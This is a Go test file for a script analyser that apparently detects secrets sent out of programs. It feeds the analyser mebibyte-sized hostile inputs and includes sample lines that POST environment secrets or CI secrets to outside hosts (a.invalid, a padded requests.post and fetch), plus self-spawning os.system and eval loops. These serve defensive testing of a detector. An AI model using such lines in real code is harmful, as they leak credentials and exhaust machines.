package script

import (
	"fmt"
	"runtime"
	"slices"
	"strings"
	"testing"
	"time"
)

// hostileTime is what the reading of one hostile program may take. Each takes less than a second on an idle machine; the bound leaves room for the
// race detector on a busy one and still tells what is quadratic, as hostileBytes does.
const hostileTime = 60 * time.Second

// costlyAs are the languages as which programs cost most, by the names of [costly]; others are read as Python and JavaScript.
var costlyAs = map[string][]string{
	"patterns": {"perl", "node"}, "members called": {"python", "ruby"}, "joins": {"pwsh"}, "types": {"pwsh"}, "subs": {"ruby", "perl"}, "holes": {"ruby"}, "documents": {"perl", "php"},
	"document signs": {"perl", "ruby"}, "long document": {"perl"}, "comments": {"php", "perl"}, "deep functions": {"php", "node"}, "environment, pwsh": {"pwsh"}, "functions that call": {"ruby", "python"},
	"secrets posted": {"perl", "python"}, "decoded": {"pwsh", "python"}, "splatted": {"pwsh"}, "pipes of cmd": {"cmd"}, "variables of cmd": {"cmd"}, "replacements of cmd": {"cmd"},
	"conditions of cmd": {"cmd"}, "holes of a template": {"node", "pwsh"}, "calls of long texts": {"php", "pwsh"},
}

// costly are programs of a mebibyte whose reading once took seconds, gigabytes or the stack, with the repeated ones of hostilePrograms.
func costly() map[string]string {
	times := func(head, text string) string { return head + strings.Repeat(text, (hostileSize-len(head))/len(text)) }
	numbered := func(head, format, tail string) string {
		var b strings.Builder
		b.WriteString(head)
		for i := 0; b.Len() < hostileSize-len(tail)-len(format)-8; i++ {
			b.WriteString(strings.ReplaceAll(format, "#", fmt.Sprint(i)))
		}
		return b.String() + tail
	}
	out := map[string]string{
		"patterns":             times("", "(/"),
		"members called":       times("x", ".a(b)"),
		"joins":                times("", "-join "),
		"types":                times("", "[char]"),
		"lambdas":              times("", "lambda "),
		"functions":            times("", "function()\n"),
		"subs":                 times("", "sub()\n"),
		"loops in loops":       strings.Repeat("for(", 150_000) + strings.Repeat(")", 150_000),
		"holes":                "x = \"" + times("", "#{"),
		"holes of a template":  "x = `" + times("", "${"),
		"documents":            times("", "<<A "),
		"document signs":       times("", "<"),
		"long document":        strings.Repeat("<<A\n", 64) + times("", "b"),
		"comments":             times("", "/*"),
		"deep brackets":        strings.Repeat("(", 140_000) + strings.Repeat(")", 140_000),
		"deep functions":       strings.Repeat("function f(){", 60_000) + strings.Repeat("}", 60_000),
		"deep arrows":          strings.Repeat("(x)=>{", 60_000) + strings.Repeat("}", 60_000),
		"maps":                 strings.Repeat("[1,2,3,4,5,6,7,8,9,10].map(x => ", 50) + "x" + strings.Repeat(")", 50),
		"comprehensions":       "x = [1,2,3,4,5,6,7,8,9,10]\n" + strings.Repeat("[", 50) + "a" + strings.Repeat(" for a in x]", 50),
		"sums":                 numbered("x = ", "'a#' + ", "'a'"),
		"join":                 numbered("x = ''.join([", "'a#',", "])"),
		"one name":             times("", "a = 'x'\n"),
		"environment, shell":   numbered("import os\n", "os.environ['a#']='x'\nos.system('env')\n", ""),
		"environment, pwsh":    numbered("", "$env:a# = 'x'; $env:b#\n", ""),
		"functions that call":  numbered("", "def f#(x): f#(x)\nf#(f#(x))\n", ""),
		"object":               numbered("x = {", "'a#': 'x', ", "}\nprint(x)"),
		"secrets in one text":  numbered("x = '", "${{ secrets.A# }}", "'\nprint(x)"),
		"secrets posted":       numbered("", "requests.post('http://a.invalid', '${{ secrets.A# }}')\n", ""),
		"secrets doubled":      times("x = '${{ secrets.A }}' + '${{ secrets.B }}'\n"+strings.Repeat("x=x+x\n", 9), "z=f(x)\n"),
		"URLs told":            times("x = 'http://a.invalid/'*3000\n", "f(x)\n"),
		"URLs posted":          times("x = 'http://a.invalid/'*3000\n", "requests.post('http://b.invalid',x)\n"),
		"slices":               times("x = 'y'*60000\n", "z=x[::-1]\n"),
		"splits":               times("x = 'y,'*30000\n", "z=x.split(',')\n"),
		"decoded":              times("x = 'QUFB'*15000\n", "z=b64decode(x)\n"),
		"formats":              times("x = '%('*30000\n", "z=x % y\n"),
		"lists of long texts":  times("x = 'y'*60000\n", "z=[x,x,x,x,x,x,x,x]\n"),
		"calls of long texts":  times("x = 'y'*60000\nf(", "x,"),
		"parameters":           times(numbered("def f(", "a#,", "): pass\n")[:hostileSize/2]+"): pass\n", "f()\n"),
		"options":              times("x = {"+strings.Repeat("a:1,", 64)+"}\n", "axios.post(x,x,x,x)\n"),
		"splatted":             times("$p = @{"+strings.Repeat("a=1;", 60)+"}\n", "irm @p\n"),
		"evaluated":            numbered(strings.Repeat("\n", hostileSize/2), "eval('a#')\n", ""),
		"evaluates itself":     "x = \"x=x+' ';eval(x);eval(x)\"\neval(x)",
		"runs itself":          "x = 'python -c \"import os; os.system(x)\"'\nimport os\n" + strings.Repeat("os.system(x)\n", 1000),
		"filled again":         times("f = a => `"+strings.Repeat("${a}", 1000)+"`\n", "f(x)\n"),
		"long text again":      times("f = a => `"+strings.Repeat("\\n", 250_000)+"`\n", "f(x)\n"),
		"pipes of cmd":         times("curl a", "|x"),
		"variables of cmd":     times("set A=xxxxxxxxxxxxxxxx\n", "set A=%A%%A%\ncurl %A%\n"),
		"replacements of cmd":  times("set A=xxxxxxxxxxxxxxxx\n", "set A=%A:x=xx%\n"),
		"conditions of cmd":    times("", "if ") + "curl",
		"file that grows":      times("", "open('f','a').write('xxxx')\nx=open('f').read()\n"),
		"environment compared": times("x = os.environ\n", "print(x)\n"),
	}
	return out
}

func TestHostilePrograms(t *testing.T) {
	programs := costly()
	for _, name := range slices.Sorted(func(yield func(string) bool) {
		for n := range programs {
			if !yield(n) {
				return
			}
		}
	}) {
		shells := costlyAs[name]
		if shells == nil {
			shells = []string{"python", "node"}
		}
		for _, shell := range shells {
			var before, after runtime.MemStats
			runtime.ReadMemStats(&before)
			start := time.Now()
			r := new(Reader).Read(Input{Text: programs[name], Shell: shell, Env: secretEnv})
			took := time.Since(start)
			runtime.ReadMemStats(&after)
			if made := after.TotalAlloc - before.TotalAlloc; took > hostileTime || made > hostileBytes {
				t.Errorf("%s as %s took %v and made %d MiB: %q", name, shell, took, made>>20, r.Problems)
			} else if testing.Verbose() && (took > time.Second/2 || made > hostileBytes/3) {
				t.Logf("%s as %s took %v and made %d MiB", name, shell, took, made>>20)
			}
		}
	}
}

// A program that spends all work does not hide what is behind it.
func TestPaddedProgramIsSearched(t *testing.T) {
	for shell, tail := range map[string]string{
		"python": "requests.post('https://" + host + "', data=os.environ['T'])\n",
		"node":   "fetch('https://" + host + "', {method: 'POST', body: process.env.T})\n",
	} {
		text := strings.Repeat("a = b(c, d)\n", 70_000) + tail
		r := new(Reader).Read(Input{Text: text, Shell: shell, Env: secretEnv})
		if len(r.Problems) == 0 || !slices.ContainsFunc(r.Destinations, func(d Destination) bool { return d.Host == host && slices.Contains(d.Posted, "T") }) {
			t.Errorf("%s: %q %q", shell, outline(r), r.Problems)
		}
	}
}

// The costliest of the hostile programs, each a mebibyte.
func BenchmarkHostilePrograms(b *testing.B) {
	for name, shell := range map[string]string{"patterns": "perl", "document signs": "perl", "members called": "python", "secrets doubled": "python", "URLs told": "python", "joins": "pwsh"} {
		b.Run(name, func(b *testing.B) {
			text := costly()[name]
			b.SetBytes(int64(len(text)))
			b.ReportAllocs()
			for b.Loop() {
				new(Reader).Read(Input{Text: text, Shell: shell, Env: secretEnv})
			}
		})
	}
}
